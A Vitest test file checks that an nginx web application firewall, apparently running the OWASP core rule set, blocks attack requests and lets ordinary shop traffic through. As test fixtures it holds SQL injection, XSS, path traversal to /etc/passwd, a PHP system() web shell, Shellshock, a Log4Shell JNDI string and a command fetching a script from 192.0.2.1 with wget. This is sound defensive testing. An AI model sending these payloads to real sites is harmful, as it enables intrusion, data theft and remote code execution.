import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { request } from '@/scripts/request';
import { startSite, type TestNginx } from './testing';

let nginx: TestNginx;
let stop: (() => Promise<void>) | undefined;
beforeAll(async () => {
  ({ nginx, stop } = await startSite({}));
}, 120_000);
afterAll(() => stop?.());

/** What a visitor sends. `type` of a body: a form where none is named, none where it is empty. */
type Sent = { path?: string; headers?: Record<string, string>; body?: string; type?: string; method?: string };

const query = (value: string): Sent => ({ path: `/search?q=${encodeURIComponent(value)}` });
const form = (value: string): Sent => ({ path: '/comment', body: `text=${encodeURIComponent(value)}` });
const json = (value: unknown): Sent => ({ path: '/api', body: JSON.stringify(value), type: 'application/json' });
const typeless = (body: string): Sent => ({ path: '/api', body, type: '' });
const header = (name: string, value: string): Sent => ({ headers: { [name]: value } });

let sent = 0;

/** Sends a request. Answers its status and the numbers of the core rules that matched, the score gates left out. */
async function send({ path = '/', headers = {}, body, type, method }: Sent) {
  const mark = `m${++sent}`;
  const own = {
    ...{
      Host: 'shop.example.com',
      'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64)',
      Accept: 'text/html',
      'X-Mark': mark,
    },
    ...(body === undefined || type === '' ? {} : { 'Content-Type': type ?? 'application/x-www-form-urlencoded' }),
    ...headers,
  };
  const given = { method: method ?? (body === undefined ? 'GET' : 'POST'), path, headers: own, body };
  const { status } = await request(`http://127.0.0.1:${nginx.http}`, given);
  if (status !== 403) return { status, rules: [] };
  const line = (await nginx.logged('audit.json', `"X-Mark":"${mark}"`)) as Audit;
  const rules = line.transaction.messages.map(({ details }) => Number(details.ruleId));
  return { status, rules: rules.filter((rule) => rule < 949_000) };
}

type Audit = { transaction: { messages: { details: { ruleId: string } }[] } };

describe('the core rules refuse', () => {
  it.each<[string, Sent, number]>([
    ['an SQL tautology', query("1' OR '1'='1"), 942_100],
    ['a UNION', query('1 UNION SELECT password FROM users'), 942_100],
    ['an SQL injection in a form', form("x'; DROP TABLE users; --"), 942_100],
    ['one in JSON', json({ user: { name: "admin' OR 1=1 --" } }), 942_100],
    ['one in a body that says no type', typeless("id=1' OR 1=1 --"), 942_100],
    ['one in JSON that says no type', typeless('{"id":"1 UNION SELECT password FROM users"}'), 942_190],
    ['a script in JSON that says no type', typeless('{"text":"<script>alert(1)</script>"}'), 941_110],
    [
      'a body of parts that none of them reads',
      { ...json({ id: "1' OR 1=1 --" }), type: 'multipart/related; boundary=b' },
      920_420,
    ],
    ['one in a cookie', header('Cookie', "session=1' OR '1'='1"), 942_100],
    ['a script', query('<script>alert(1)</script>'), 941_100],
    ['an event handler', form('<img src=x onerror=alert(1)>'), 941_100],
    ['a script address', query('javascript:alert(document.cookie)'), 941_170],
    ['a script in a referer', header('Referer', 'http://x/"><script>alert(1)</script>'), 941_110],
    ['a path that climbs', { path: '/download?file=../../../../etc/passwd' }, 930_100],
    ['a file of the system', query('/etc/shadow'), 930_120],
    ['a file of the developer', { path: '/.git/config' }, 930_130],
    ['a file from elsewhere by address', query('http://192.0.2.1/shell.txt?'), 931_100],
    ['a command', query('; cat /etc/passwd'), 932_160],
    ['a command in back quotes', form('`wget http://192.0.2.1/x.sh`'), 932_115],
    ['Shellshock', header('User-Agent', '() { :; }; /bin/bash -c id'), 932_170],
    ['PHP', form('<?php system($_GET[0]); ?>'), 933_100],
    ['PHP functions', query('phpinfo()'), 933_160],
    ['serialised PHP', form('O:8:"stdClass":1:{s:1:"a";i:1;}'), 933_170],
    ['code for Node', json({ a: "require('child_process').exec('id')" }), 933_160],
    ['a Java class', query('java.lang.Runtime.getRuntime()'), 944_100],
    ['a scanner', header('User-Agent', 'sqlmap/1.7'), 913_100],
    ['a method that no site has', { method: 'TRACK' }, 911_100],
    ['a second request in a header', query('x\r\nSet-Cookie: a=b'), 921_120],
  ])('%s', async (_, asked, rule) => {
    const { status, rules } = await send(asked);
    expect({ status, rules }).toEqual({ status: 403, rules: expect.arrayContaining([rule]) });
  });
});

describe('the core rules let through', () => {
  it.each<[string, Sent]>([
    ['a page', {}],
    ['a search in words', query('red shoes, size 42')],
    ['an apostrophe', query("children's books")],
    ['a question', form('How do I select a union representative? Drop me a line.')],
    ['a name with a mark', form('Seán Ó Súilleabháin')],
    ['Chinese', query('防水 登山鞋')],
    ['an address of mail', form('first.last+tag@example.com')],
    ['numbers and signs', form('(555) 010-9999 #12, 50% off & more!')],
    ['a date', query('2026-11-25T03:00:00Z')],
    ['JSON', json({ items: [{ id: 1, name: 'Boots', price: 59.9 }], note: 'Leave at the door; ring twice.' })],
    ['JSON that says no type', typeless('{"user":{"last":"O\'Neil","mail":"a@example.com"},"on":true,"n":[1,2]}')],
    ['words that say no type', typeless('Boots & shoes = fine')],
    ['an update of an API', { ...json({ name: 'Boots' }), method: 'PUT' }],
    ['a part of one', { ...json({ name: 'Boots' }), method: 'PATCH' }],
    ['a deletion', { path: '/api/boots/1', method: 'DELETE' }],
    ['a session', header('Cookie', 'session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl; theme=dark')],
    ['a referer', header('Referer', 'https://www.example.com/search?q=boots&page=2')],
    ['a picture', { path: '/img/logo.png?v=1.2.3' }],
    ['a text of some length', form('The quick brown fox jumps over the lazy dog. '.repeat(40))],
  ])('%s', async (_, asked) => {
    expect(await send(asked)).toEqual({ status: 200, rules: [] });
  });
});

describe('a request of many values', () => {
  const values = (count: number, value: string) => ({
    body: Array.from({ length: count }, (_, i) => `a${i}=${encodeURIComponent(value)}`).join('&'),
  });

  it.each([
    ['SQL', "1' OR '1'='1", 942_990],
    ['paths', '../../etc/passwd', 930_990],
    ['scripts', 'a eval (1)', 934_990],
    ['all sorts', `<script>1' or '1'='1 ../../etc/passwd;cat eval(1)`, 942_990],
  ])('that all match, as %s, is refused by a rule that says so once', async (_, value, rule) => {
    expect(await send(values(990, value))).toEqual({ status: 403, rules: [rule] });
  });

  it('of which few match is refused by the rules that do', async () => {
    const few = { body: `${values(200, 'boots').body}&${values(5, "1' OR '1'='1").body}` };
    expect((await send(few)).rules).toContain(942_100);
  });

  it('that are harmless passes', async () => {
    expect(await send(values(990, 'a pair of boots, 5.. or 6'))).toEqual({ status: 200, rules: [] });
  });
});

describe('known of the core rules as Debian has them (docs/nginx.md)', () => {
  it.each<[string, Sent, number[]]>([
    ['Log4Shell, which no rule knows', header('User-Agent', `\${jndi:ldap://192.0.2.1/a}`), []],
    ['two comparisons, which look like SQL', query('5 < 10 and 20 > 15'), [942_100]],
  ])('%s', async (_, asked, rules) => {
    expect((await send(asked)).rules).toEqual(rules);
  });
});
